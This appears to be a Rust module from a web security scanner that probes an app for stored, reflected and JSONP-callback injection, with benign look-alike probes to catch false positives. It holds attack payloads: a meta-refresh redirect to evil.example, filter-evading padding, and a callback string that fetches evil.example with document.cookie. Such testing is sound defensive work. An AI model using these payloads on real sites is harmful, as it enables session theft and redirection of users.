//! Values that the app writes into its pages. These need no script: no Content-Security-Policy keeps them from working.

use super::files::{is_script, loaded};
use crate::app::fill;
use crate::browser::{From, How};
use crate::context::{Context, described};
use crate::cookies::Jar;
use crate::encode;
use crate::http::{Request, Response};
use crate::probe::{Failed, Twin, Verdict};

/// A tag that every browser follows at once.
fn refresh() -> String {
    format!("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{}\">", encode::mark())
}

fn taken_elsewhere(markup: &str) -> Verdict {
    Verdict::succeeded(format!("{markup} is in the page: whoever reads it is taken to https://evil.example"))
}

pub(super) fn stored(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let markup = refresh();
    Ok(match crate::probes::headers::stored(context, &markup)? {
        Ok(_) => taken_elsewhere(&markup),
        Err(verdict) => verdict,
    })
}

/// Prose of 96 KB, more than filters commonly look at.
fn prose() -> String {
    "It was a dark and stormy night. ".repeat(3000)
}

/// The form that writes `text`, behind a field that the app does not know.
fn behind_prose(context: &Context<'_>, text: &str) -> Result<Request, Failed> {
    let mut form = context.text_form(text)?;
    form.body = [format!("aside={}&", encode::form(&prose())).as_bytes(), &form.body].concat();
    Ok(form)
}

pub(super) fn late(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let (jar, markup) = (context.victim_session()?, refresh());
    let form = behind_prose(context, &markup)?;
    // A body that is cut off may get no answer at all: the page tells what came of it.
    let answer = context.browse(form, &jar, &From::Own, How::Navigate).ok();
    let page = context.read(&jar)?;
    Ok(match answer {
        _ if page.contains(&markup) => taken_elsewhere(&markup),
        Some(answer) => Verdict::refused(&answer, "the markup is not in the page"),
        None => Verdict::stopped("the body was cut off, and the markup is not in the page"),
    })
}

/// A user sends a long form.
pub(super) fn long_form(context: &mut Context<'_>) -> Result<Twin, Failed> {
    let (jar, mark) = (context.victim_session()?, encode::mark());
    let form = behind_prose(context, &mark)?;
    let answer = context.browse(form, &jar, &From::Own, How::Navigate)?;
    let page = context.read(&jar)?;
    Ok(Twin::of(page.contains(&mark), &answer, "a long form"))
}

/// A user writes about SQL and code, with an apostrophe, Markdown and a link.
pub(super) fn own_words(context: &mut Context<'_>) -> Result<Twin, Failed> {
    let (jar, mark) = (context.victim_session()?, encode::mark());
    let text = format!(
        "{mark} O'Brien wrote: `SELECT name FROM users WHERE id = 1;` -- it's *fine*, see [the manual](https://docs.example/sql?a=1&b=2).\n\n\
         ```python\nif a < b and b > c:\n    print(\"<b>swap</b>\", a or 1 == 1)\n```\n{mark}"
    );
    let answer = context.write(&text, &jar)?;
    let page = context.read(&jar)?;
    Ok(Twin::of(page.text().matches(&mark).count() == 2, &answer, "a comment with code in it"))
}

pub(super) fn reflected(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let markup = form(context);
    shown(context, &markup, &markup)
}

pub(super) fn encoded(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let markup = refresh();
    shown(context, &encode::percent(&markup), &markup)
}

/// A form that acts within the app for whoever presses its button: nothing in it leads elsewhere, so no policy of the page objects.
fn form(context: &Context<'_>) -> String {
    let action = context.app.write.as_ref().map_or("/", |writing| writing.path.as_str());
    format!("<form method=post action=\"{action}\"><input name=text value={}><button>Go on</button></form>", encode::mark())
}

/// Searches for `sent`; the attack works if the page then has `markup`.
fn shown(context: &mut Context<'_>, sent: &str, markup: &str) -> Result<Verdict, Failed> {
    let page = context.visit(&context.search_path(sent)?, &Jar::default())?;
    Ok(if page.contains(markup) {
        Verdict::succeeded(format!("{markup} is part of the page that a link to the search opens"))
    } else {
        Verdict::refused(&page, "the markup is not in the page")
    })
}

/// A search for a line of code.
pub(super) fn search_for_code(context: &mut Context<'_>) -> Result<Twin, Failed> {
    let mark = encode::mark();
    let words = format!("if (a < b && b > {mark}) return \"<b>bold</b>\";");
    let answer = context.visit(&context.search_path(&words)?, &Jar::default())?;
    Ok(Twin::of(answer.contains(&mark), &answer, "a search for a line of code"))
}

/// Data in the shape of a call of `name`: where it is, whether it begins so, and the answer.
fn called(context: &mut Context<'_>, name: &str) -> Result<(String, bool, Response), Failed> {
    let path = fill(&described(&context.app.callback, "callback")?.path, "text", name);
    let script = context.fetch(&path, &Jar::default())?;
    let begins = is_script(&script) && script.text().trim_start_matches("/**/").starts_with(name);
    Ok((path, begins, script))
}

/// Code of the attacker's in a script of the app's own, and a tag that loads it: `script-src 'self'` has no objection.
pub(super) fn callback(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let jar = context.victim_session()?;
    let code = format!("fetch('https://evil.example/{}?'+document.cookie)//", encode::mark());
    let (path, begins, script) = called(context, &code)?;
    if !begins {
        return Ok(Verdict::refused(&script, "the code is in no script of the app"));
    }
    let (runs, page) = loaded(context, &path, &jar)?;
    Ok(if runs {
        Verdict::succeeded(format!("the page loads a script of the app's own that begins with {code}"))
    } else {
        Verdict::refused(&page, "the script does not run in the page")
    })
}

/// A page asks for data by the names that libraries make up.
pub(super) fn own_callback(context: &mut Context<'_>) -> Result<Twin, Failed> {
    for name in ["showComments", "jQuery36105_1763800000.done", "window.widgets[0].show"] {
        let (_, begins, script) = called(context, name)?;
        if !begins {
            return Ok(Twin::of(false, &script, name));
        }
    }
    Ok(Twin::Passed)
}
